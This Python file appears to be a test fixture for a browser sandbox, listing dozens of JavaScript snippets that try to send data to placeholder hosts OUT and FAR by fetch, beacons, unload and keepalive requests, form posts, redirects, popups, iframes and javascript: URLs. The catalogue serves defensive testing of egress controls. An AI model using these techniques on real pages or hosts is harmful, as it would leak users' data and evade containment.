"""Ways out by script, form and navigation."""

# ruff: noqa: E501 - a script stays on one line

from sandboxes.browser.egress.vector import FORM, Vector, html

REQUESTS = (
    Vector("fetch-get", "fetch(OUT)"),
    Vector("fetch-post", "fetch(OUT, {method: 'POST', body: 'x'})"),
    Vector("fetch-no-cors", "fetch(FAR, {method: 'POST', mode: 'no-cors', body: 'x'})"),
    Vector("fetch-preflight-delete", "fetch(FAR, {method: 'DELETE'})", channel="redirects and preflights"),
    Vector(
        "fetch-file-body",
        "const d = new FormData(); d.append('f', new Blob(['x'])); fetch(OUT, {method: 'POST', body: d})",
    ),
    Vector("xhr-post", "const x = new XMLHttpRequest(); x.open('POST', OUT); x.send('x')"),
    Vector(
        "xhr-sync",
        "setTimeout(() => { const x = new XMLHttpRequest(); x.open('POST', OUT, false); x.send('x') })",
    ),
    Vector("event-source", "window.e = new EventSource(OUT)"),
    Vector("beacon", "navigator.sendBeacon(OUT, 'x')"),
    Vector(
        "beacon-pagehide-close",
        "addEventListener('pagehide', () => navigator.sendBeacon(OUT, 'x'))",
        "close",
        channel="requests while a page hides or closes",
    ),
    Vector(
        "beacon-pagehide-leave",
        "addEventListener('pagehide', () => navigator.sendBeacon(OUT, 'x'))",
        "leave",
        channel="requests while a page hides or closes",
    ),
    Vector(
        "beacon-hidden",
        "document.addEventListener('visibilitychange', () => navigator.sendBeacon(OUT, 'x'))",
        "close",
        channel="requests while a page hides or closes",
    ),
    Vector(
        "keepalive-close",
        "addEventListener('pagehide', () => fetch(OUT, {method: 'POST', keepalive: true, body: 'x'}))",
        "close",
        channel="requests while a page hides or closes",
    ),
    Vector(
        "keepalive-leave",
        "addEventListener('pagehide', () => fetch(OUT, {method: 'POST', keepalive: true, body: 'x'}))",
        "leave",
        channel="requests while a page hides or closes",
    ),
    Vector(
        "keepalive-then-close",
        "fetch(OUT, {method: 'POST', keepalive: true, body: 'x'})",
        "close",
        channel="requests while a page hides or closes",
    ),
    Vector(
        "image-unload",
        "addEventListener('unload', () => { new Image().src = OUT })",
        "leave",
        channel="requests while a page hides or closes",
    ),
    Vector(
        "fetch-later-close",
        "fetchLater(OUT, {method: 'POST', body: 'x'})",
        "close",
        channel="requests while a page hides or closes",
    ),
    Vector(
        "fetch-later-leave",
        "fetchLater(OUT, {method: 'POST', body: 'x'})",
        "leave",
        channel="requests while a page hides or closes",
    ),
    Vector("ping-attribute", "document.body.innerHTML = `<a id=a href='#x' ping='${OUT}'>a</a>`; a.click()"),
)

FORMS = (
    Vector(
        "form-get",
        "location.hash; const f = document.createElement('form'); f.action = OUT; document.body.append(f); f.submit()",
    ),
    Vector("form-post", FORM + "f.submit()"),
    Vector("form-post-blank", FORM + "f.target = '_blank'; f.submit()"),
    Vector(
        "form-post-iframe",
        FORM
        + "f.target = 'n'; document.body.insertAdjacentHTML('beforeend', '<iframe name=n></iframe>'); f.submit()",
    ),
    Vector(
        "formaction",
        "document.body.innerHTML = `<form method=post action=/page><button id=b formaction='${OUT}'>b</button></form>`; b.click()",
    ),
    Vector(
        "srcdoc-sandbox-post",
        html(
            "<iframe sandbox='allow-forms allow-scripts' srcdoc=\"<form id=f method=post action='${OUT}'></form><script>f.submit()</script>\"></iframe>"
        ),
    ),
    Vector(
        "srcdoc-fetch",
        html(
            "<iframe srcdoc=\"<script>fetch('${OUT}', {method: 'POST', mode: 'no-cors'})</script>\"></iframe>"
        ),
    ),
)

NAVIGATIONS = (
    Vector("location-assign", "setTimeout(() => location.assign(OUT))"),
    Vector("location-replace", "setTimeout(() => location.replace(OUT))"),
    Vector(
        "history-reload",
        "history.pushState(0, '', '/out/history-reload'); setTimeout(() => location.reload())",
    ),
    Vector("navigation-api", "setTimeout(() => navigation.navigate(OUT))"),
    Vector(
        "meta-refresh",
        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${OUT}'>`)",
    ),
    Vector("refresh-header", "", headers=("refresh: 0;url={out}",)),
    Vector(
        "redirect-302",
        "fetch('/hop?code=302&to=' + encodeURIComponent(OUT))",
        channel="redirects and preflights",
    ),
    Vector(
        "redirect-307-post",
        "fetch('/hop?code=307&to=' + encodeURIComponent(OUT), {method: 'POST', body: 'x'})",
        channel="redirects and preflights",
    ),
    Vector(
        "redirect-307-far",
        "fetch('/hop?code=307&to=' + encodeURIComponent(FAR), {method: 'POST', mode: 'no-cors', body: 'x'})",
        channel="redirects and preflights",
    ),
    Vector(
        "redirect-form-307",
        FORM + "f.action = '/hop?code=307&to=' + encodeURIComponent(OUT); f.submit()",
        channel="redirects and preflights",
    ),
    Vector(
        "redirect-image",
        "new Image().src = '/hop?code=302&to=' + encodeURIComponent(FAR)",
        channel="redirects and preflights",
    ),
    Vector("window-open", "window.open(OUT)"),
    Vector("window-open-noopener", "window.open(OUT, '_blank', 'noopener')"),
    Vector("popup-fetch", "const p = window.open('about:blank'); p.fetch(OUT, {method: 'POST'})"),
    Vector("link-blank", "document.body.innerHTML = `<a id=a target=_blank href='${OUT}'>a</a>`; a.click()"),
    Vector(
        "link-download",
        "document.body.innerHTML = `<a id=a download href='${OUT}'>a</a>`; a.click()",
        channel="downloads",
    ),
    Vector("iframe", html("<iframe src='${OUT}'></iframe>")),
    Vector(
        "iframe-blank-fetch",
        "const i = document.createElement('iframe'); document.body.append(i); i.contentWindow.fetch(OUT, {method: 'POST'})",
    ),
    Vector(
        "data-page",
        "document.body.innerHTML = `<iframe src=\"data:text/html,<script>fetch('${OUT}',{mode:'no-cors',method:'POST'})</script>\"></iframe>`",
    ),
    Vector(
        "blob-page",
        "const i = document.createElement('iframe'); i.src = URL.createObjectURL(new Blob([`<script>fetch('${OUT}', {method: 'POST'})</script>`], {type: 'text/html'})); document.body.append(i)",
    ),
    Vector("object", html("<object data='${OUT}'></object>")),
    Vector("embed", html("<embed src='${OUT}'>")),
    Vector(
        "javascript-url",
        "document.body.innerHTML = `<a id=a href=\"javascript:void fetch('${OUT}',{method:'POST'})\">a</a>`; a.click()",
    ),
)
